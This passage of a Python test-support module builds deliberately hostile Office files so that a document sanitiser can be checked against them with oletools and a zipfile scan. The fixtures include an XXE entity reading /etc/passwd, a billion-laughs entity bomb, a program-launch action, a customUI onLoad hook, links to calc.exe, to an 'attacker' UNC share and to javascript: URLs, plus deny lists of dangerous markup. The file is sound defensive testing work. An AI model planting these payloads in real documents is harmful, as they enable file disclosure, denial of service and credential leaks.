        DOC + "drawing+xml",
    )
    rid = package.relate("xl/worksheets/sheet1.xml", REL + "drawing", "../drawings/drawing1.xml")
    append_to_body(package, f'<drawing r:id="{rid}"/>')


def program_action(package: Package) -> None:
    """A click that starts a program, as PowerPoint's Action Settings store it."""
    rid = package.relate(
        "ppt/slides/slide1.xml", REL + "hyperlink", "https://www.city.example.lg.jp/", external=True
    )
    package.replace(
        "ppt/slides/slide1.xml",
        "<a:t>",
        f'<a:rPr><a:hlinkClick r:id="{rid}" action="ppaction://program"/></a:rPr><a:t>',
    )


def custom_ui(package: Package) -> None:
    package.add(
        "customUI/customUI14.xml",
        '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Evil"/>',
        "application/xml",
    )
    package.relate(
        "",
        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        "customUI/customUI14.xml",
    )


def hyperlinks(package: Package) -> None:
    """Web links (kept by keep-web) and links to files, shares and scripts (never kept)."""
    folder = _folder(package)
    source = _CONTENT_PART[folder]
    ids = [
        package.relate(source, REL + "hyperlink", target, external=True) for target in WEB_LINKS + BAD_LINKS
    ]
    if folder == "word":
        append_to_body(
            package,
            "".join(
                f'<w:p><w:hyperlink r:id="{rid}"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>'
                for rid in ids
            ),
        )
    elif folder == "xl":
        cells = "".join(f'<hyperlink ref="A{i + 1}" r:id="{rid}"/>' for i, rid in enumerate(ids))
        package.replace(source, "</worksheet>", f"<hyperlinks>{cells}</hyperlinks></worksheet>")
    else:
        runs = "".join(
            f'<a:r><a:rPr><a:hlinkClick r:id="{rid}"/></a:rPr><a:t>リンク</a:t></a:r>' for rid in ids
        )
        append_to_body(
            package,
            '<p:sp><p:nvSpPr><p:cNvPr id="20" name="links"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
            f"<p:txBody><a:bodyPr/><a:p>{runs}</a:p></p:txBody></p:sp>",
        )


WEB_LINKS = ("https://www.city.example.lg.jp/", "mailto:soumu@city.example.lg.jp")
BAD_LINKS = ("file:///C:/Windows/System32/calc.exe", "\\\\attacker\\share\\x.docx", "javascript:alert(1)")


def comments_and_revisions(package: Package) -> None:
    package.add(
        "word/comments.xml",
        f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="山田 太郎" w:initials="YT">'
        "<w:p><w:r><w:t>要確認</w:t></w:r></w:p></w:comment></w:comments>",
        DOC + "wordprocessingml.comments+xml",
    )
    package.relate("word/document.xml", REL + "comments", "comments.xml")
    append_to_body(
        package,
        '<w:p><w:commentRangeStart w:id="0"/><w:ins w:id="1" w:author="佐藤 花子" w:date="2024-04-01T00:00:00Z">'
        '<w:r w:rsidR="00A1B2C3"><w:t>追記</w:t></w:r></w:ins><w:commentRangeEnd w:id="0"/>'
        '<w:r><w:commentReference w:id="0"/></w:r></w:p>',
    )


def _with_doctype(package: Package, doctype: str, entity: str) -> None:
    """Put a DOCTYPE after the XML declaration and use its entity in the first text."""
    content_type, data = package.parts[package.main]
    text = data.decode("utf-8").replace(TEXTS[0], entity + TEXTS[0], 1)
    declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    body = text.removeprefix(declaration)
    package.add(package.main, declaration + doctype + body, content_type)


def xxe(package: Package) -> None:
    _with_doctype(package, '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")


def billion_laughs(package: Package) -> None:
    levels = ['<!ENTITY a "aaaaaaaaaa">'] + [
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
    ]
    _with_doctype(package, f"<!DOCTYPE lol [{''.join(levels)}]>", "&i;")


#: name → (kinds it applies to, builder, construct the report names).  Each leaves the
#: visible text as it was (``computed_field`` does not: the nested field's text is code).
HOSTILE: dict[str, tuple[tuple[str, ...], Builder, str]] = {
    "macros": (("docx", "xlsx", "pptx"), macros, "ooxml.vba_project"),
    "attached_template": (("docx",), attached_template, "ooxml.attached_template"),
    "dde_fields": (("docx",), dde_fields, "ooxml.dde_field"),
    "include_fields": (("docx",), include_fields, "ooxml.external_field"),
    "alt_chunk_and_subdocument": (("docx",), alt_chunk_and_subdocument, "ooxml.alt_chunk"),
    "ole_embedding": (("docx", "xlsx", "pptx"), ole_embedding, "ooxml.embedded_object"),
    "activex": (("docx", "xlsx", "pptx"), activex, "ooxml.activex"),
    "xlm_macro_sheet": (("xlsx",), xlm_macro_sheet, "ooxml.xlm_macrosheet"),
    "dde_link": (("xlsx",), dde_link, "ooxml.external_link"),
    "custom_ui": (("docx", "xlsx", "pptx"), custom_ui, "ooxml.custom_ui"),
    "shape_macro": (("xlsx",), shape_macro, "ooxml.macro_binding"),
    "program_action": (("pptx",), program_action, "ooxml.action"),
    "hyperlinks": (("docx", "xlsx", "pptx"), hyperlinks, "ooxml.hyperlink"),
}


# -- reading outputs back -------------------------------------------------------------

_TEXT_TAGS = {f"{{{W}}}t", f"{{{A}}}t", f"{{{S}}}t"}


def texts_in(path: Path) -> dict[str, list[str]]:
    """Visible text per part: w:t of word/document.xml, t of xl/sharedStrings.xml, a:t of slides."""
    found: dict[str, list[str]] = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name in ("word/document.xml", "xl/sharedStrings.xml") or re.fullmatch(
                r"ppt/slides/slide\d+\.xml", name
            ):
                root = ET.fromstring(archive.read(name))
                found[name] = [element.text or "" for element in root.iter() if element.tag in _TEXT_TAGS]
    return found


def part_names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()


def relationships_in(path: Path) -> list[tuple[str, str, str, str]]:
    """(rels part, type, target, mode) of every relationship in the package."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                for element in ET.fromstring(archive.read(name)):
                    found.append(
                        (
                            name,
                            element.get("Type", ""),
                            element.get("Target", ""),
                            element.get("TargetMode", ""),
                        )
                    )
    return found


def content_types_in(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [
            element.get("ContentType", "") for element in ET.fromstring(archive.read("[Content_Types].xml"))
        ]


def xml_parts(path: Path) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                yield name, archive.read(name)


def undeclared_ignorable_prefixes(data: bytes) -> set[str]:
    """Prefixes named by mc:Ignorable / mc:Choice Requires that the part does not declare."""
    declared: set[str] = set()
    named: set[str] = set()
    for event, item in ET.iterparse(io.BytesIO(data), events=("start-ns", "start")):
        if event == "start-ns":
            declared.add(item[0])
        else:
            named.update(item.get(f"{{{MC}}}Ignorable", "").split())
            if item.tag == f"{{{MC}}}Choice":
                named.update(item.get("Requires", "").split())
    return named - declared


@contextmanager
def _quiet() -> Iterator[None]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield


@dataclass(frozen=True)
class OletoolsView:
    """What oletools finds in a file."""

    vba_modules: tuple[str, ...]
    oleid_risks: dict[str, object]
    external_relationships: tuple[tuple[str, str], ...]
    custom_ui: tuple[str, ...]
    embedded_ole: int
    dde: str
    fields: str


def oletools_view(path: Path) -> OletoolsView:
    with _quiet():
        parser = olevba.VBA_Parser(str(path))
        try:
            modules = (
                tuple(code for _, _, _, code in parser.extract_macros()) if parser.detect_vba_macros() else ()
            )
        finally:
            parser.close()
        indicators = {i.id: i.value for i in oleid.OleID(str(path)).check()}
        xml = XmlParser(str(path))
        external = tuple(oleobj.find_external_relationships(xml))
        custom_ui_callbacks = tuple(oleobj.find_customUI(xml))
        embedded = sum(1 for ole in oleobj.find_ole(str(path), None) if ole is not None)
        dde = msodde.process_file(str(path), msodde.FIELD_FILTER_DDE)
        fields = msodde.process_file(str(path), msodde.FIELD_FILTER_ALL)
    return OletoolsView(modules, indicators, external, custom_ui_callbacks, embedded, dde, fields)


def assert_oletools_clean(path: Path, *, web_links: bool = True) -> None:
    """oletools finds no macro, embedded object, customUI, DDE or non-web external link."""
    view = oletools_view(path)
    assert view.oleid_risks["container"] == "OpenXML"  # oletools did look inside the package
    assert view.vba_modules == ()
    assert view.oleid_risks["vba"] == "No"
    assert view.oleid_risks["xlm"] == "No"
    assert view.oleid_risks["ObjectPool"] is False
    assert view.oleid_risks["flash"] == 0
    assert view.embedded_ole == 0
    assert view.custom_ui == ()
    assert view.dde == ""
    first_words = {line.split()[0].upper() for line in view.fields.splitlines() if line.split()}
    assert first_words.isdisjoint({"DDE", "DDEAUTO", "INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "LINK"})
    for kind, target in view.external_relationships:
        assert web_links and kind == "hyperlink" and WEB_TARGET.match(target), (kind, target)


#: What ``links = "keep-web"`` may leave: the three schemes, nothing before them.
WEB_TARGET = re.compile(r"(https?://|mailto:)[^\x00-\x20]", re.IGNORECASE)
FORBIDDEN_PARTS = re.compile(
    r"vbaProject|vbaData|activeX|embeddings|macrosheets|externalLink|connections|webextension|customUI|\.bin$",
    re.IGNORECASE,
)
FORBIDDEN_MARKUP = (
    b"instrText>DDE",
    b"w:altChunk",
    b"w:subDoc",
    b"o:OLEObject",
    b"oleObject",
    b"ddeLink",
    b"w:control",
    b"attachedTemplate",
    b"macroEnabled",
)


def assert_package_clean(path: Path) -> None:
    """An independent zipfile walk finds no forbidden part, relationship or markup."""
    assert [n for n in part_names(path) if FORBIDDEN_PARTS.search(n)] == []
    for _, rel_type, target, mode in relationships_in(path):
        if mode == "External":
            assert rel_type == REL + "hyperlink" and WEB_TARGET.match(target), (rel_type, target)
    assert not any(
        re.search("macroenabled|vbaproject|activex|oleobject", ct, re.I) for ct in content_types_in(path)
    )
    for name, data in xml_parts(path):
        assert [m for m in FORBIDDEN_MARKUP if m in data] == [], name
        assert undeclared_ignorable_prefixes(data) == set(), name


def dangling_references(path: Path) -> list[tuple[str, str]]:
    """(part, id) for every r:id-style reference with no relationship behind it."""
    dangling = []
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        for name in names:
            if not name.endswith((".xml", ".vml")):
                continue
            folder, _, base = name.rpartition("/")
            rels = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
            ids = {e.get("Id") for e in ET.fromstring(archive.read(rels))} if rels in names else set()
            for element in ET.fromstring(archive.read(name)).iter():
                for key, value in element.attrib.items():
                    if (
                        (key.startswith(f"{{{R}}}") or key == f"{{{OFFICE}}}relid")
                        and value
                        and value not in ids
                    ):
                        dangling.append((name, value))
    return dangling
